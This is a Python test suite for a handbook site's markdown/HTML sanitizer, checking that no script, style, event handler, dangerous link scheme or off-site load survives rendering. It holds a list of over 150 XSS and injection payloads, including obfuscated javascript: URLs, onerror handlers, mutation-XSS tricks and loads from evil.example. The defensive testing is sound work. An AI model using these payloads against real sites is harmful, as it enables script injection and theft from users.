"""Nothing in record prose runs, restyles the page, names a part of it, or loads anything from another host.

Judged by a parser of its own: what the browser would be given, not what the sanitizer says of itself.
"""

from __future__ import annotations

import json
import re
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from values_handbook.prose import RECORD_SCHEMES, Prose, Target, find_links, place, render_block, render_inline
from values_handbook.prose.sanitizing import MARK

NAUGHTY = Path(__file__).parents[3] / "shared" / "naughty-strings.json"

VOID = {"br", "hr", "img", "input", "col", "wbr"}
INLINE_ELEMENTS = frozenset(
    """a abbr b bdi bdo cite code data del dfn em i img ins kbd mark q rp rt ruby s samp small span strike strong
    sub sup time tt u var wbr svg path""".split()  # noqa: SIM905
)
BLOCK_ELEMENTS = INLINE_ELEMENTS | frozenset(
    """blockquote br caption col colgroup dd details div dl dt figcaption figure h3 h4 h5 h6 hr input label li ol p
    pre summary table tbody td tfoot th thead tr ul""".split()  # noqa: SIM905
)
ATTRIBUTES = frozenset(
    """href rel title lang dir id name class src alt width height align valign colspan rowspan scope headers abbr
    span value datetime open start type reversed""".split()  # noqa: SIM905
)
OURS: dict[str, dict[str, str | None]] = {
    "input": {"type": "checkbox", "disabled": None, "aria-label": None, "checked": None},
    "label": {"class": "task-list-control"},
    "svg": {"xmlns": "http://www.w3.org/2000/svg", "viewbox": None},
    "path": {"d": None},
}
"""Elements that only we make, with the attributes that they have."""

CLASSES = {
    "div": r"highlight|footnote|admonition (note|tip|important info|warning|caution danger)",
    "p": r"admonition-title",
    "li": r"task-list-item",
    "a": r"footnote-(ref|backref)",
    "label": r"task-list-control",
    "span": r"twemoji|task-list-indicator|[a-z]{1,2}[0-9a-z]?",
}


class Judge(HTMLParser):
    """Collects what is wrong with a piece of HTML."""

    def __init__(self, elements: frozenset[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.elements = elements
        self.open: list[str] = []
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.elements:
            self.wrong.append(f"element {tag}")
        if tag not in VOID:
            self.open.append(tag)
        names = [name for name, _ in attrs]
        if len(names) != len(set(names)):
            self.wrong.append(f"an attribute twice in {tag}")
        for name, value in attrs:
            self.judge_attribute(tag, name, value or "")
        if tag == "input" and not {"type", "disabled"} <= set(names):
            self.wrong.append(f"input {attrs}")

    def judge_attribute(self, tag: str, name: str, value: str) -> None:
        own = OURS.get(tag)
        if own is not None:
            if name not in own or own[name] not in (None, value):
                self.wrong.append(f"{name}={value!r} in {tag}")
        elif name not in ATTRIBUTES:
            self.wrong.append(f"attribute {name} of {tag}")
        if name == "class" and not re.fullmatch(CLASSES.get(tag, "none"), value):
            self.wrong.append(f"class {value!r} of {tag}")
        if name in ("id", "name") and not value.startswith("p-"):
            self.wrong.append(f"{name} {value!r} without a prefix")
        if name == "href":
            self.judge_href(value)
        if name == "src" and not value.startswith("/site/"):
            self.wrong.append(f"loads {value!r}")

    def judge_href(self, value: str) -> None:
        seen = re.sub(r"[\x00-\x20\x7f-\xa0\u200b-\u200f\u2028\u2029\ufeff]", "", value).lower()
        if not re.match(r"(https?://|https?:|mailto:|/site/|#p-)", seen):
            self.wrong.append(f"leads to {value!r}")

    def handle_endtag(self, tag: str) -> None:
        if tag in VOID or not self.open or self.open.pop() != tag:
            self.wrong.append(f"</{tag}> closes nothing")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"instruction {data}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"section {data}")


def wrongs(html: str, elements: frozenset[str]) -> list[str]:
    judge = Judge(elements)
    judge.feed(html)
    judge.close()
    marks = [f"mark {mark!r}" for mark in [MARK, *map(chr, range(1, 9))] if mark in html]
    return judge.wrong + [f"<{tag}> stays open" for tag in judge.open] + marks


def everything_wrong(text: str) -> list[str]:
    """What is wrong with a text as block and in a line, where all its links lead somewhere and where none does."""
    found = []
    for render, elements in ((render_block, BLOCK_ELEMENTS), (render_inline, INLINE_ELEMENTS)):
        prose = render(text)
        for target in (Target('/site/"x"&y', 'A <b> & "title"'), None):
            asked: list[str] = []

            def resolve(href: str, target: Target | None = target, asked: list[str] = asked) -> Target | None:
                asked.append(href)
                return target

            found += wrongs(place(prose, "p-", resolve), elements)
            found += [f"{href!r} is taken for a place inside" for href in asked if not is_inside(href)]
    return found


def is_inside(href: str) -> bool:
    """Whether a browser would take an address for a path or a fragment, if it is no record's."""
    seen = re.sub(r"[\t\r\n]", "", href.strip("".join(map(chr, range(33))))).replace("\\", "/")
    scheme = re.match(r"[a-zA-Z][a-zA-Z0-9+.-]*:", seen)
    return seen.split(":")[0].lower() in RECORD_SCHEMES or not (scheme or seen.startswith("//"))


@pytest.mark.parametrize(
    "html",
    [
        "<script>x</script>",
        "<p onclick='x'>a</p>",
        "<p style='color:red'>a</p>",
        "<p class='md-banner'>a</p>",
        "<p id='x'>a</p>",
        "<a href='javascript:x'>a</a>",
        "<a href='//host/x'>a</a>",
        "<img src='https://host/x.png'>",
        "<img src='/site/x.png' srcset='https://host/x.png'>",
        "<input type='text'>",
        "<form action='https://host'></form>",
        "<svg onload='x'></svg>",
        "<p>open",
        "<p>a</b></p>",
        "</p>",
    ],
)
def test_the_judge_sees_what_is_wrong(html: str) -> None:
    assert wrongs(html, BLOCK_ELEMENTS)


VECTORS = r'''
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script>alert(1)
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script/xss src="https://evil.example/x.js"></script>
<script	src=data:,alert(1)></script>
"><script>alert(1)</script>
</p></div></article><script>alert(1)</script>
<div><scr<foo>ipt>alert(1)</scr</foo>ipt></div>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" >
<img/src=x/onerror=alert(1)>
<img src=x onerror
=alert(1)>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img src="javascript:alert(1)">
<img src=`javascript:alert(1)`>
<img src="https://evil.example/pixel.gif">
<img src=//evil.example/pixel.gif>
<img src="/\evil.example/pixel.gif">
<img src="\\evil.example\pixel.gif">
<img src="/	/evil.example/pixel.gif">
<img src=" https://evil.example/pixel.gif">
<img src="hTTps:evil.example/pixel.gif">
<img src="data:image/svg+xml;base64,PHN2Zz4=">
<img srcset="https://evil.example/a.png 2x" src=a.png>
<img lowsrc="https://evil.example/a.png" dynsrc="https://evil.example/b" longdesc="https://evil.example/c">
<image src="https://evil.example/a.png">
<picture><source srcset="https://evil.example/a.png"><img src=a.png></picture>
![x](javascript:alert(1))
![x](data:image/png;base64,AAAA)
![x](//evil.example/a.png)
![x](/\evil.example/a.png)
![x](https://evil.example/a.png "a\" onerror=\"alert(1)")
![" onerror="alert(1)](a.png)
![a](a.png"onerror="alert(1))
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=10>x</text></a></svg>
<svg><image href="https://evil.example/a.png" /></svg>
<svg><use href="https://evil.example/a.svg#x"/></svg>
<svg><style>*{background:url(https://evil.example/)}</style></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<iframe src="https://evil.example/"
<object data="https://evil.example/x.swf"></object>
<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>
<embed src="https://evil.example/x.swf">
<applet code="x.class" codebase="https://evil.example/"></applet>
<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png" autoplay></video>
<video><source onerror="alert(1)"></video>
<audio src="https://evil.example/x.mp3" onloadstart=alert(1)></audio>
<track src="https://evil.example/x.vtt">
<body onload=alert(1)>
<body background="https://evil.example/x.png">
<html manifest="https://evil.example/x">
<head><base href="https://evil.example/"></head>
<base target=_blank href=javascript:/a/-alert(1)/////////>
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=preload as=image href="https://evil.example/x.png">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta http-equiv="Set-Cookie" content="x=1">
<style>@import "https://evil.example/x.css"; body{display:none}</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<div style="background:url(https://evil.example/x.png)">a</div>
<div style="position:fixed;inset:0;z-index:9999">a</div>
<p style="width:expression(alert(1))">a</p>
<xss style="behavior:url(x.htc)">
<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png">a</td></tr></table>
<font face="x" color="red" size=7>a</font>
<marquee onstart=alert(1)>a</marquee>
<blink>a</blink><center>b</center>
<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)></form>
<form><button formaction="javascript:alert(1)">a</button></form>
<input type="image" src="https://evil.example/x.png">
<isindex type=image src=1 onerror=alert(1)>
<select onfocus=alert(1) autofocus><option>a</select>
<textarea autofocus onfocus=alert(1)></textarea><img src=x onerror=alert(1)>
<keygen autofocus onfocus=alert(1)>
<button onclick="alert(1)">a</button>
<label for="__search">a</label>
<details open ontoggle="alert(1)"><summary>a</summary></details>
<dialog open>a</dialog>
<frameset><frame src="https://evil.example/"></frameset>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<title><img title="</title><img src=x onerror=alert(1)>">
<template><img src=x onerror=alert(1)></template>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="https://evil.example/x.xsl"?>
<!DOCTYPE html SYSTEM "https://evil.example/x.dtd">
<!ENTITY x SYSTEM "file:///etc/passwd">
<a href="javascript:alert(1)">a</a>
<a href="JaVaScRiPt:alert(1)">a</a>
<a href=" javascript:alert(1)">a</a>
<a href="java	script:alert(1)">a</a>
<a href="java&#9;script:alert(1)">a</a>
<a href="java&#10;script:alert(1)">a</a>
<a href="java&#x0D;script:alert(1)">a</a>
<a href="&#1;javascript:alert(1)">a</a>
<a href="&#x6A;&#x61;vascript&colon;alert(1)">a</a>
<a href="&#0000106avascript:alert(1)">a</a>
<a href="javascript&Tab;&NewLine;:alert(1)">a</a>
<a href="vbscript:msgbox(1)">a</a>
<a href="data:text/html,<script>alert(1)</script>">a</a>
<a href="blob:https://evil.example/x">a</a>
<a href="file:///etc/passwd">a</a>
<a href="feed:javascript:alert(1)">a</a>
<a href="view-source:javascript:alert(1)">a</a>
<a href="jar:javascript:alert(1)!/">a</a>
<a href="intent://evil#Intent;end">a</a>
<a href="//evil.example/">a</a>
<a href="/\evil.example/">a</a>
<a href="/&#1;/evil.example/">a</a>
<a href=x onclick=alert(1) target=_blank ping="https://evil.example/" download>a</a>
<a href="https://a.example/" onmouseover="alert(1)" style="x" class="md-button" rel="opener" target="x">a</a>
<a href='x' href='javascript:alert(1)'>a</a>
[a](javascript:alert(1))
[a](JAVASCRIPT:alert(1))
[a](java&#x09;script:alert(1))
[a](&#x6A;avascript:alert(1))
[a](javascript&colon;alert(1))
[a](<java script:alert(1)>)
[a](\javascript:alert(1))
[a](vbscript:alert(1))
[a](data:text/html;base64,PHNjcmlwdD4=)
[a](file:///etc/passwd)
[a](blob:x)
[a](//evil.example)
[a](x "\" onmouseover=\"alert(1)")
[a](x 'a" onmouseover="alert(1)')
[a](https://a.example/"onmouseover="alert(1))
[a]: javascript:alert(1) "x"<br>[a]
<javascript:alert(1)>
<vbscript:alert(1)>
<data:text/html,x>
https://a.example/"onmouseover="alert(1)
https://a.example/<script>alert(1)</script>
www.a.example/'onmouseover='alert(1)
a@b.example"onmouseover="alert(1)
`<script>alert(1)</script>`
``` <script>alert(1)</script> ```
:<script>alert(1)</script>:
| <img src=x onerror=alert(1)> | a |
<p id="__search" name="location" class="md-overlay">a</p>
<a id="x" name="x" href="#x">a</a><a id="x">b</a>
<img name="body" id="location" src=a.png>
<map name=x><area href="javascript:alert(1)"></map><img usemap="#x" src=a.png>
<div hidden role="alert" aria-hidden="true" tabindex=1 contenteditable accesskey=x data-md-component="search">a</div>
<div itemprop="x" is="x-y" slot="x" part="x" nonce="x">a</div>
<x-element onclick=alert(1)>a</x-element>
<div class="highlight admonition twemoji">a</div>
<span class="twemoji"><svg></svg></span>
<label class="task-list-control"><input type="checkbox"></label>
<vh-slot n="0"></vh-slot> :material-forum: <vh-slot n="m0000000000000000-0">x</vh-slot>
<div title="<a href='value:candor'>"><img alt="<script>alert(1)</script>" src="a.png"></div>
<div title="<img src=" lang="><a title=" dir="> href=">a</div> "> <a href="value:candor">b</a>
<div title="

:material-forum: [a](value:candor)

<script>alert(1)</script>">
<a href="value:candor"><table><tr><td><a href="value:x">b</a></td></tr></table></a>
<a href="guide.md">a <a href="value:candor">b</a> c</a>
<b><p><a href="guide.md"></b></p> c</a>
<table><a href="value:candor">b</table>c</a>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\<script>alert(1)\</script>
{{ config.__class__ }} {% raw %} ${alert(1)} <%= alert(1) %>
<script>alert(1)</script>
<p>&#2;value:candor&#5;&#5;0&#3; &#1; &#4;a.png&#5;&#5;&#5;</p>
'''.strip("\n")


def vectors() -> list[str]:
    """One per line; those of several lines by the blank lines in them."""
    joined = re.sub(r"\n\n", "\x00\x00", VECTORS)
    return [line.replace("\x00", "\n") for line in joined.split("\n")]


@pytest.mark.parametrize("text", vectors())
def test_no_injection_gets_through(text: str) -> None:
    assert everything_wrong(text) == []


def test_there_are_enough_injections_to_trust() -> None:
    assert len(set(vectors())) > 150


@pytest.mark.skipif(not NAUGHTY.exists(), reason="../shared/naughty-strings.json is not beside this checkout")
def test_no_naughty_string_gets_through() -> None:
    strings = json.loads(NAUGHTY.read_text(encoding="utf-8"))
    assert len(strings) > 500
    assert {text: wrong for text in strings if (wrong := everything_wrong(text))} == {}


@pytest.mark.parametrize(
    "before", ["", "- ", "> ", "1. ", "# ", "a ", "| a |\n|---|\n| ", "> [!NOTE]\n> ", "[^1]\n\n[^1]: "]
)
def test_no_injection_gets_through_in_another_block(before: str) -> None:
    assert {text: wrong for text in vectors() if (wrong := everything_wrong(before + text))} == {}


def test_no_injection_gets_through_beside_another() -> None:
    everything = vectors()
    for first, second in zip(everything, everything[7:] + everything[:7], strict=True):
        assert everything_wrong(f"{first} {second}") == [], (first, second)
        assert everything_wrong(f"{first}\n\n{second}\n\n```\na\n```\n- [x] b :smile:") == [], (first, second)


@pytest.mark.parametrize(
    "href",
    [
        "javascript:x",
        "JAVASCRIPT:x",
        "java&#9;script:x",
        "vbscript:x",
        "data:x",
        "file:x",
        "blob:x",
        "tel:1",
        "a:b",
        "",
    ],
)
def test_a_link_to_nowhere_keeps_its_text_only(href: str) -> None:
    prose = render_block(f"[a]({href}) <a href='{href}'>b</a>")
    assert place(prose, "p-", lambda asked: Target("/site/", "")) == "<p>a b</p>\n"
    assert prose.links == ()


@pytest.mark.parametrize(
    "href",
    [
        "//a.org/x",
        r"/\a.org/x",
        r"\\a.org/x",
        r"\/a.org/x",
        "&#9;//a.org/x",
        "/&#9;/a.org/x",
        "/&#10;\\a.org/x",
        " //a.org/x",
    ],
)
def test_an_address_without_a_scheme_but_with_a_host_leaves_the_site(href: str) -> None:
    prose = render_block(f"<a href='{href}'>a</a> <img src='{href}' alt='b'>")
    link = '<a href="https://a.org/x" rel="noopener">'
    assert place(prose, "p-", lambda asked: Target("/site/", "")) == f"<p>{link}a</a> {link}b</a></p>\n"
    assert prose.links == ()


PIECES = st.sampled_from(
    [
        *vectors(),
        *(
            "*",
            "**",
            "_",
            "~",
            "`",
            "```\n",
            "[",
            "]",
            "](",
            ")",
            "![",
            "<",
            ">",
            "&",
            "\\",
            "\n",
            "\n\n",
            " ",
            '"',
            "'",
            "=",
        ),
        *(
            "> ",
            "- ",
            "1. ",
            "- [x] ",
            "# ",
            "|",
            "\n|-|-|\n",
            "[^1]",
            "[^1]: ",
            "> [!NOTE]\n> ",
            "    ",
            "\t",
        ),
        *(
            "[a](value:candor)",
            "[](goal:x#y)",
            "[b]: value:z\n",
            "[c][b]",
            "<value:x>",
            "[a](#b)",
            "![a](b.png)",
        ),
        *(
            "<a href='value:x'>",
            "</a>",
            "<a id=b>",
            "<div>",
            "</div>",
            "<p>",
            "<table>",
            "<td>",
            "<b>",
            "</b>",
            "<!--",
            "-->",
        ),
        *(
            "<a title='",
            '<div title="',
            "<img src=",
            "<vh-slot n=",
            ":smile:",
            ":material-forum:",
            "https://a.b/",
            "a@b.c",
        ),
        *(
            "&#1;",
            "&#2;",
            "&#5;",
            "\x01",
            "\x02",
            "\x05",
            "\x00",
            "\u2028",
            "\ufeff",
            "\x0c",
            "\r",
            "😀",
            "ß",
        ),
    ]
)
TEXTS = st.one_of(st.text(), st.lists(st.one_of(PIECES, st.text(max_size=5)), max_size=12).map("".join))


@settings(deadline=None, max_examples=400)
@given(TEXTS)
def test_no_text_at_all_gets_anything_through(text: str) -> None:
    assert everything_wrong(text) == []


def texts_of(prose: Prose) -> str:
    """The text of rendered prose as another parser reads it."""
    html = str(place(prose, "p-", lambda href: None))
    reader = HTMLParser(convert_charrefs=True)
    parts: list[str] = []
    reader.handle_data = parts.append  # type: ignore[method-assign,assignment]
    reader.feed(html)
    reader.close()
    return "".join(parts)


@settings(deadline=None, max_examples=200)
@given(TEXTS)
def test_the_plain_text_is_text_that_the_page_shows(text: str) -> None:
    prose = render_block(text)
    assert not re.search(r"[\x01-\x08]", prose.plain) and MARK not in prose.plain
    shown = "".join(texts_of(prose).split())
    assert set("".join(prose.plain.split())) <= set(shown) | set(unescape(text))
    if not re.search(r"!\[|<img|\[\^|//|<image|www", text):
        assert "".join(prose.plain.split()) == shown


@settings(deadline=None, max_examples=200)
@given(TEXTS)
def test_what_is_announced_is_found_without_rendering(text: str) -> None:
    for render, inline in ((render_block, False), (render_inline, True)):
        announced = {link.href for link in render(text).links}
        assert announced <= {link.href for link in find_links(text, inline=inline)}
